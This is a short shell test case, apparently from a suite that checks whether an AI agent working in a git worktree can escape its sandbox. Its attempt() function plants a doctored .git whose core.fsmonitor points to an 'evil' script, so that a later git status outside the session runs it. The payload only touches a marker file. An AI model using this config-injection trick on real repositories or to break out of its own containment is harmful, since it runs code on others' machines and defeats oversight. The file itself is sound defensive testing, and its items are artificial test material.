# From a session's worktree: put another folder of git in the place of the repository's
# group: git-files
# worktree: agent/work
prepare() { git init -q -b main "$W" && git -C "$W" commit -q --allow-empty -m first; }
attempt() {
  printf '#!/bin/sh\ntouch "%s/ran"\n' "$ROOM" > evil; chmod +x evil
  cp -r "$W/.git" mine; git config -f mine/config core.fsmonitor "$PWD/evil"
  mv "$W/.git" "$W/old"; cp -r mine "$W/.git"
  mv "$W" "$W.old"; mkdir "$W"; cp -r mine "$W/.git"
}
succeeded() { git -C "$W" status >/dev/null; test -e "$ROOM/ran"; }
